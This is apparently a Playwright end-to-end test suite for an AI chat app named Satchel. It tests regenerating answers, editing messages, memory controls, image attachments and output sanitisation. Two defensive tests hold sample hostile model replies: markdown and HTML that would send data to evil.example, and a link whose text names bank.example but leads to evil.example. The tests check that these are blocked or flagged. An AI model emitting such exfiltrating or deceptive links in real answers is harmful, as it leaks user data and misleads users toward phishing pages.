/** Versions of a conversation, what a turn costs, memory, images, and text that would like to be loaded. */
import type { Page } from '@playwright/test'
import { startOllamaServer, type OllamaServer } from './ollama-server/server.ts'
import { expectAccessible, tooWide } from './support/checks.ts'
import { sendMessage as send } from './support/chat.ts'
import { createSatchel, expect, test } from './support/satchel.ts'

const answers = (page: Page) => page.getByRole('article', { name: 'Satchel' })
const questions = (page: Page) => page.getByRole('article', { name: 'You' })
const idle = (page: Page) => expect(page.getByRole('button', { name: 'Send', exact: true })).toBeVisible()

test('an answer is made again, and the first one comes back with what followed it', async ({
  page,
  satchel,
}) => {
  await satchel.json('cap', 'install', 'note', '--yes')
  await satchel.open(page)
  await send(page, 'add note about buying milk tomorrow')
  await expect(answers(page)).toContainText('Added to Note')
  await answers(page).getByRole('button', { name: 'Answer again' }).click()
  await expect(answers(page)).toContainText('2 of 2')
  // The first one's changes stay, with an offer to undo them.
  await expect(
    answers(page).getByTestId('left-behind').or(page.locator('[data-test=left-behind]')),
  ).toContainText('changes that are still in place')
  const notes = async () =>
    ((await satchel.json('state', 'query', '--from', 'did:nuwa:state:note#v1')) as { items: unknown[] }).items
  expect(await notes()).toHaveLength(2)
  await page.getByRole('button', { name: 'Undo what that turn changed' }).click()
  await page.getByRole('dialog').getByRole('button', { name: /^Undo/ }).click()
  await expect.poll(async () => (await notes()).length).toBe(1)

  await idle(page)
  await send(page, 'show my notes')
  await expect(answers(page)).toHaveCount(2)
  await idle(page)
  await answers(page).first().getByRole('button', { name: 'Previous version' }).click()
  await expect(answers(page)).toHaveCount(1)
  await expect(answers(page)).toContainText('1 of 2')
  await answers(page).getByRole('button', { name: 'Next version' }).click()
  await expect(answers(page)).toHaveCount(2)
})

test('a message is put in other words by keyboard, and both ways stay', async ({ page, satchel }) => {
  await satchel.open(page)
  await send(page, '/switch nothing')
  await expect(answers(page)).toHaveCount(1)
  await idle(page)
  await questions(page).getByRole('button', { name: 'Edit this message' }).focus()
  await page.keyboard.press('Enter')
  const field = page.getByRole('textbox', { name: 'Edit your message' })
  await expect(field).toBeFocused()
  await field.fill('/back')
  await page.keyboard.press('Enter')
  await expect(questions(page)).toContainText('/back')
  await expect(questions(page)).toContainText('2 of 2')
  await idle(page)
  await questions(page).getByRole('button', { name: 'Previous version' }).click()
  await expect(questions(page)).toContainText('/switch nothing')
  await expect(questions(page)).toContainText('1 of 2')
})

test('a fact is remembered, used, changed, forgotten, and kept out where unwanted', async ({ page }) => {
  const ollama: OllamaServer = await startOllamaServer()
  const satchel = createSatchel({ env: { OLLAMA_HOST: ollama.url } })
  const last = () => JSON.stringify(ollama.chats().at(-1)?.messages ?? [])
  try {
    await satchel.json('settings', 'set', 'model', 'ollama:qwen3:8b')
    await satchel.open(page)
    await send(page, 'remember that my sister is called Ann')
    await expect(answers(page)).toContainText('Remembered')
    await idle(page)
    await send(page, 'who is my sister?')
    await expect(answers(page)).toHaveCount(2)
    await idle(page)
    await expect.poll(last).toContain('my sister is called Ann')
    const context = answers(page)
      .last()
      .getByRole('button', { name: /^Context: about/ })
    await context.click()
    await expect(answers(page).last()).toContainText('Remembered facts used')
    await expectAccessible(page, 'a turn with its context')

    await page.getByRole('button', { name: 'Memory of this conversation' }).click()
    await page.getByRole('menuitem', { name: 'View memory' }).click()
    await expect(page.getByRole('heading', { name: 'Memory' })).toBeVisible()
    await expect(page.getByText('my sister is called Ann')).toBeVisible()
    await expectAccessible(page, 'the memory')
    expect(await tooWide(page)).toEqual([])
    const stays = page.locator('[data-test=stays]')
    await expect(stays).toHaveText('Kept until you delete it')
    await page.getByRole('button', { name: /^Let it expire when unused/ }).click()
    await expect(stays).toHaveText(/^Expires on .* unless it’s used$/)
    await page.getByRole('button', { name: /^Keep until I delete it/ }).click()
    await expect(stays).toHaveText('Kept until you delete it')
    await page.getByRole('button', { name: /^Edit/ }).click()
    const field = page.getByRole('textbox', { name: 'Something to remember' }).last()
    await field.fill('my sister is called Eve')
    await field.press('Enter')
    await expect(page.getByText('my sister is called Eve')).toBeVisible()
    await page.getByRole('link', { name: 'Said in a conversation' }).click()
    await expect(questions(page).first()).toContainText('remember that')
    await send(page, 'who is my sister now?')
    await idle(page)
    await expect.poll(last).toContain('Eve')
    expect(last()).not.toContain('Ann')

    await page.getByRole('button', { name: 'Memory of this conversation' }).click()
    const memory = page.getByRole('menuitemcheckbox', { name: /Use memory here/ })
    await memory.click()
    await expect(memory).not.toBeChecked()
    await page.keyboard.press('Escape')
    await send(page, 'and who is my sister?')
    await expect(answers(page)).toHaveCount(4)
    await idle(page)
    await expect.poll(last).not.toContain('Eve')
  } finally {
    await satchel.dispose()
    await ollama.close()
  }
})

test('an image is attached, sent to a model that sees, and shown again', async ({ page }) => {
  const ollama = await startOllamaServer()
  const satchel = createSatchel({ env: { OLLAMA_HOST: ollama.url } })
  const png = Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
    'base64',
  )
  try {
    await satchel.open(page)
    const files = page.locator('input[type=file][multiple]')
    await files.setInputFiles({ name: 'noise.bin', mimeType: '', buffer: Buffer.from('x\0') })
    await expect(page.getByRole('alert')).toContainText('noise.bin')
    await files.setInputFiles({ name: 'dot.png', mimeType: 'image/png', buffer: png })
    await expect(page.getByRole('img', { name: 'dot.png' })).toBeVisible()
    await send(page, 'what is this?')
    await expect(questions(page).getByRole('img', { name: 'dot.png' })).toBeVisible()
    await idle(page)
    await page.reload()
    await expect(questions(page).getByRole('img', { name: 'dot.png' })).toHaveJSProperty('naturalWidth', 1)
  } finally {
    await satchel.dispose()
    await ollama.close()
  }
})

test('nothing that an answer names is loaded: no image, no link, no frame', async ({ page }) => {
  const hostile = [
    '![x](https://evil.example/leak?q=secret)',
    '<img src="https://evil.example/raw.png"><iframe src="https://evil.example/"></iframe>',
    '[click](https://evil.example/click) https://evil.example/auto',
    '<style>@import url(https://evil.example/a.css)</style><link rel="prefetch" href="https://evil.example/p">',
  ].join('\n\n')
  const ollama = await startOllamaServer({
    script: { about: 'leaks', turns: [{ when: {}, reply: { chunks: [{ content: hostile }] } }] },
  })
  const satchel = createSatchel({ env: { OLLAMA_HOST: ollama.url } })
  const asked: string[] = []
  page.on('request', (request) => asked.push(request.url()))
  try {
    await satchel.open(page)
    await send(page, 'hello there')
    await expect(answers(page)).toContainText('click')
    await idle(page)
    await page.waitForTimeout(500)
    expect(asked.filter((url) => url.includes('evil.example'))).toEqual([])
    expect(await answers(page).locator('img, iframe, style, link').count()).toBe(0)
  } finally {
    await satchel.dispose()
    await ollama.close()
  }
})

test('a link whose text names another host than it leads to asks first, and shows both', async ({ page }) => {
  const content = [
    '[https://bank.example/login](https://evil.example/login)',
    '[the notes](https://notes.example/)',
  ].join(' ')
  const ollama = await startOllamaServer({
    script: { about: 'links', turns: [{ when: {}, reply: { chunks: [{ content }] } }] },
  })
  const satchel = createSatchel({ env: { OLLAMA_HOST: ollama.url } })
  await page.context().route(/\.example\//, (route) => route.fulfill({ body: 'there' }))
  const opened: string[] = []
  page.context().on('page', (one) => opened.push(one.url()))
  try {
    await satchel.open(page)
    await send(page, 'hello there')
    await idle(page)
    const link = answers(page).getByRole('link', { name: 'bank.example' })
    const question = page.getByRole('dialog', { name: 'This link leads somewhere else' })
    await link.click()
    await expect(question).toContainText('bank.example')
    await expect(question).toContainText('https://evil.example/login')
    await expect(question.getByRole('button', { name: 'Don’t open it' })).toBeFocused()
    await expectAccessible(page, 'a link that misleads')
    expect(await tooWide(page)).toEqual([])
    await page.keyboard.press('Enter')
    await expect(question).toBeHidden()
    expect(opened).toEqual([])

    await link.click()
    const popup = page.waitForEvent('popup')
    await question.getByRole('button', { name: 'Open evil.example' }).click()
    expect((await popup).url()).toBe('https://evil.example/login')
    await expect(question).toBeHidden()

    const plain = page.waitForEvent('popup')
    await answers(page).getByRole('link', { name: 'the notes' }).click()
    expect((await plain).url()).toBe('https://notes.example/')
  } finally {
    await satchel.dispose()
    await ollama.close()
  }
})
